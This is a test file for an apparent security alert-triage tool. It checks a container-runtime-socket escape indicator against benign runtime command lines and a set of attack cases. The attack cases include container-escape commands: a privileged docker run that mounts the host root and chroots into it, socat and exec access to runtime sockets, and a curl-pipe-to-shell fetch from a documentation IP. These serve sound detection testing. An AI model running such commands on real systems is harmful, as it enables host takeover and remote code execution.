/**
 * The runtime-socket indicator (T1611) is about a client of the runtime's socket. The runtime itself names the socket
 * in its own command line — containerd serving it, a shim connecting back to its containerd, dockerd listening — and
 * a sensor that reports the runtime as the process (Cortex's causality actor, a "daemon started" alert) must not make
 * that an escape. Found in the k0s-kuberouter-baremetal validation scenario (k0s' /run/k0s/containerd.sock).
 */
import { describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src/cluster/index.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { attackIndicators } from '../../../src/triage/rules/attack-indicators.js';
import { correlate } from '../../../src/triage/correlate.js';
import { alert, node, snapshot } from '../../support/cluster.js';

const W = 'hel1-wrk-02';
const index = buildIndex([snapshot([node(W, '10.50.1.22')])]);
const socketHits = (cmd: string, path?: string) => {
  const a = alert({ host: W, time: '2027-03-16T02:20:15.000Z', title: 'Process started', process: { name: cmd.split(' ')[0].split('/').pop(), path, commandLine: cmd }, ancestors: [{ name: 'systemd' }] });
  return attackIndicators.evaluate({ alert: a, correlation: correlate(a, index), index }).filter((e) => e.facts?.indicator === 'runtime-socket');
};

describe('the runtime naming its own socket is not a client of it', () => {
  it.each([
    ['/var/lib/k0s/bin/containerd --root=/var/lib/k0s/containerd --state=/run/k0s/containerd --address=/run/k0s/containerd.sock --config=/etc/k0s/containerd.toml'],
    ['/var/lib/k0s/bin/containerd-shim-runc-v2 -namespace k8s.io -id 1f2e3d -address /run/k0s/containerd.sock'],
    ['/usr/bin/containerd-shim-runc-v2 -namespace moby -id 9a8b -address /var/run/docker/containerd/containerd.sock'],
    ['dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2375'],
    ['/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'],
  ])('%s', (cmd) => {
    expect(socketHits(cmd)).toEqual([]);
  });
});

describe('traps: clients of the socket, and look-alikes of the runtime', () => {
  it.each([
    ['ctr -a /run/k0s/containerd.sock -n k8s.io task exec --exec-id x abc sh'],
    ['docker -H unix:///var/run/docker.sock run --privileged -v /:/host alpine chroot /host'],
    ['socat - UNIX-CONNECT:/var/run/docker.sock'],
    ['crictl --runtime-endpoint unix:///run/k0s/containerd.sock exec -it abc sh'],
    ['/tmp/.x/containerd --address=/run/containerd/containerd.sock'],
    ['containerd-shim-runc-v2 -address /run/containerd/containerd.sock; curl -s http://203.0.113.9/x | sh'],
    ['dockerd --host=unix:///var/run/docker.sock --config-file=/tmp/docker.sock.json'],
  ])('%s', (cmd) => {
    expect(socketHits(cmd).length).toBeGreaterThan(0);
  });
  it('a runtime name run from a temporary path', () => {
    expect(socketHits('containerd --address=/run/containerd/containerd.sock', '/dev/shm/containerd').length).toBeGreaterThan(0);
  });
  it('an unexplained runtime process is still kept (genuine), just not as an escape', () => {
    const a = alert({ host: W, time: '2027-03-16T02:20:15.000Z', title: 'Process started', process: { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 1f2e -address /run/containerd/containerd.sock' } });
    expect(triageAlert(a, { index }).verdict.reasons.some((r) => /runtime socket/.test(r.message))).toBe(false);
  });
});
